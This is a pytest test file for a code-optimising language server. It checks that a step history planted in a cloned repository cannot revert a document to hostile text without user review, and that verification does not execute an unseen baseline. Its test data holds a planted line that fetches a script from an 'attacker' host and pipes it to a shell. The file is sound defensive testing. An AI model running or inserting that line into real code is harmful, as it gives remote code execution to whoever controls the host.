"""A step history planted in a cloned repository cannot put text into a document without review."""

from __future__ import annotations

import pytest
import pytest_lsp
from lsprotocol import types

from mtmc_lsp.optimizer.actions import Candidate
from mtmc_lsp.optimizer.history import StepHistory

from .conftest import TEST_SETTINGS
from .editor import CLIENTS, CONFIG, EXAMPLES, EditorClient, execute_command, initialize_params
from .raw_client import RawClient, frame

MATMUL = (EXAMPLES / "matmul.py").read_text()
INJECTED = 'import os; os.system("curl attacker | sh")  # planted'
SETTINGS = {**TEST_SETTINGS, "verification": {"enabled": False}}


def plant_history(root, document) -> str:
    """A history whose one step claims the text before it held the attacker's line; returns its id."""
    after = MATMUL.replace("num_warps=4", "num_warps=8")
    before = after.replace("num_warps=8", "num_warps=4\n" + INJECTED)
    step = StepHistory(root, document).record(Candidate("warps", "Warps", "matmul_kernel", {"num_warps": 8}, "Use 8 warps", 0), before, after)
    return step.id


async def _start(client: EditorClient, tmp_path, name: str, trusted: bool) -> tuple[str, str]:
    document = tmp_path / "matmul.py"
    step_id = plant_history(tmp_path, document)
    text = MATMUL.replace("num_warps=4", "num_warps=8")
    client.set_configuration({"mtmc": {**SETTINGS, "trusted": trusted}})
    await client.initialize_session(initialize_params(name, tmp_path))
    uri = document.as_uri()
    client.open(uri, text)
    await client.diagnostics_for(uri, version=1)
    return uri, step_id


@pytest_lsp.fixture(config=CONFIG, params=CLIENTS)
async def trusted_client(request, lsp_client: EditorClient, tmp_path):
    lsp_client.client_name = request.param
    yield
    await lsp_client.shutdown_session()


@pytest_lsp.fixture(config=CONFIG)
async def untrusted_client(lsp_client: EditorClient, tmp_path):
    yield
    await lsp_client.shutdown_session()


async def test_a_planted_revert_is_shown_before_it_applies(trusted_client: EditorClient, tmp_path):
    client = trusted_client
    uri, step_id = await _start(client, tmp_path, client.client_name, trusted=True)
    client.message_answer = "Keep"  # a client that cannot preview is asked; the user declines
    result = await execute_command(client, "mtmc.rejectStep", uri, step_id)
    if client.client_name == "neovim":
        (question,) = client.message_requests
        assert INJECTED in question.message  # the user sees the line that would come back
        assert result["rejected"] is False and not client.applied_edits
    else:  # VS Code previews: every hunk of the revert needs confirmation
        (params,) = client.applied_edits
        assert params.edit.change_annotations
        assert all(a.needs_confirmation for a in params.edit.change_annotations.values())
    if client.client_name == "neovim":
        assert INJECTED not in client.buffer_text(uri)


async def test_an_untrusted_workspace_cannot_revert_from_its_history(untrusted_client: EditorClient, tmp_path):
    client = untrusted_client
    uri, step_id = await _start(client, tmp_path, "neovim", trusted=False)
    result = await execute_command(client, "mtmc.rejectStep", uri, step_id)
    assert result["rejected"] is False and "not trusted" in result["reason"]
    assert not client.applied_edits and not client.message_requests
    assert INJECTED not in client.buffer_text(uri)
    assert any(m.type == types.MessageType.Warning and "Reject Step" in m.message for m in client.messages)


@pytest_lsp.fixture(config=CONFIG)
async def annotations_only_client(lsp_client: EditorClient, tmp_path):
    """A client that announces change annotations but not documentChanges (so it cannot be sent any)."""
    yield
    await lsp_client.shutdown_session()


async def _start_announcing(client: EditorClient, tmp_path, document_changes: bool) -> tuple[str, str]:
    document = tmp_path / "matmul.py"
    step_id = plant_history(tmp_path, document)
    client.set_configuration({"mtmc": {**SETTINGS, "trusted": True}})
    params = initialize_params("visual-studio-code", tmp_path)
    params.capabilities.workspace.workspace_edit.document_changes = document_changes
    assert params.capabilities.workspace.workspace_edit.change_annotation_support is not None
    await client.initialize_session(params)
    uri = document.as_uri()
    client.open(uri, MATMUL.replace("num_warps=4", "num_warps=8"))
    await client.diagnostics_for(uri, version=1)
    return uri, step_id


@pytest.mark.parametrize("answer", ["Keep", "Revert"])
async def test_a_client_with_annotations_but_no_document_changes_is_asked(annotations_only_client: EditorClient,
                                                                         tmp_path, answer):
    client = annotations_only_client
    uri, step_id = await _start_announcing(client, tmp_path, document_changes=False)
    client.message_answer = answer
    result = await execute_command(client, "mtmc.rejectStep", uri, step_id)
    (question,) = client.message_requests  # it cannot preview: asked before anything is applied
    assert INJECTED in question.message and [a.title for a in question.actions] == ["Revert", "Keep"]
    if answer == "Keep":
        assert result["rejected"] is False and not client.applied_edits
        assert INJECTED not in client.buffer_text(uri)
    else:  # the user saw the line and chose it: a plain edit (nothing to annotate it with)
        (params,) = client.applied_edits
        assert params.edit.document_changes is None and params.edit.change_annotations is None
        assert result["rejected"] is True and INJECTED in client.buffer_text(uri)


class ClientThatCannotAsk(RawClient):
    """Announces change annotations but not documentChanges, and answers window/showMessageRequest with an error."""

    def _received(self, message: dict) -> None:
        if message.get("method") == "window/showMessageRequest" and "id" in message:
            self.server_requests.append(message)
            self.send_raw(frame({"jsonrpc": "2.0", "id": message["id"],
                                 "error": {"code": -32601, "message": "not supported"}}))
            return
        super()._received(message)


def test_a_client_that_can_neither_preview_nor_ask_gets_no_revert(tmp_path):
    client = ClientThatCannotAsk.in_process(dict(SETTINGS, trusted=True))
    try:
        document = tmp_path / "matmul.py"
        step_id = plant_history(tmp_path, document)
        client.initialize(tmp_path, {"workspace": {"configuration": True, "applyEdit": True,
                                                   "workspaceEdit": {"changeAnnotationSupport": {}}}})
        uri = document.as_uri()
        client.open(uri, MATMUL.replace("num_warps=4", "num_warps=8"))
        assert client.wait_for(lambda: any(n["method"] == "textDocument/publishDiagnostics"
                                           for n in client.notifications), 20)  # the settings are known
        reply = client.call("workspace/executeCommand", {"command": "mtmc.rejectStep", "arguments": [uri, step_id]})
        assert reply["result"]["rejected"] is False
        assert [r["method"] for r in client.server_requests if r["method"] != "workspace/configuration"] == [
            "window/showMessageRequest"]  # asked (and it failed); no workspace/applyEdit
        assert INJECTED not in client.buffers[uri][0]
        shown = [n["params"]["message"] for n in client.notifications if n["method"] == "window/showMessage"]
        assert any("neither preview the revert nor ask" in message for message in shown)
    finally:
        client.close()


# ---- verification never runs a history text the editor did not show (issue 33) ---------------------
@pytest_lsp.fixture(config=CONFIG)
async def trusted_neovim(lsp_client: EditorClient, tmp_path):
    lsp_client.set_configuration({"mtmc": {**SETTINGS, "trusted": True, "verification": {"seeds": 1}}})
    await lsp_client.initialize_session(initialize_params("neovim", tmp_path))
    yield
    await lsp_client.shutdown_session()


def _plant(root, document, before: str, after: str) -> None:
    StepHistory(root, document).record(Candidate("warps", "Warps", "matmul_kernel", {"num_warps": 8}, "Use 8 warps", 0),
                                       before, after)


async def test_verify_ignores_a_planted_baseline_the_editor_never_showed(trusted_neovim: EditorClient, tmp_path):
    client, document = trusted_neovim, tmp_path / "k.py"
    _plant(tmp_path, document, "x = 0\n" + INJECTED + "\n", "x = 1\n")
    uri = document.as_uri()
    client.open(uri, "x = 1\n")
    await client.diagnostics_for(uri, version=1)  # the settings (trust) are known
    result = await execute_command(client, "mtmc.verifyKernel", uri)
    assert "never open in the editor" in result["baselineIgnored"]
    assert any("history of k.py" in m.message and m.type == types.MessageType.Warning for m in client.messages)


async def test_verify_keeps_a_baseline_the_editor_showed(trusted_neovim: EditorClient, tmp_path):
    client, document = trusted_neovim, tmp_path / "k.py"
    _plant(tmp_path, document, "x = 0\n", "x = 1\n")
    uri = document.as_uri()
    client.open(uri, "x = 0\n")  # the baseline was on screen in this session
    client.replace_all(uri, "x = 1\n")
    await client.diagnostics_for(uri, version=2)
    result = await execute_command(client, "mtmc.verifyKernel", uri)
    assert "baselineIgnored" not in result and not any("never open" in m.message for m in client.messages)


async def test_verify_refuses_a_document_that_is_not_open(trusted_neovim: EditorClient, tmp_path):
    (tmp_path / "closed.py").write_text(MATMUL)
    with pytest.raises(Exception, match="not open"):
        await execute_command(trusted_neovim, "mtmc.verifyKernel", (tmp_path / "closed.py").as_uri())


@pytest.mark.slow  # runs the kernel in the Triton interpreter (about half a minute on two cores)
async def test_a_planted_baseline_is_not_run_by_verification(trusted_neovim: EditorClient, tmp_path):
    client, document, marker = trusted_neovim, tmp_path / "matmul.py", tmp_path / "baseline-ran"
    after = MATMUL.replace("num_warps=4", "num_warps=8")
    _plant(tmp_path, document, f"open({str(marker)!r}, 'w').write('ran')\n" + MATMUL, after)
    uri = document.as_uri()
    client.open(uri, after)
    await client.diagnostics_for(uri, version=1)
    result = await execute_command(client, "mtmc.verifyKernel", uri, "matmul_kernel")
    assert "baselineIgnored" in result and not marker.exists()
    assert result["state"] == "passed", result
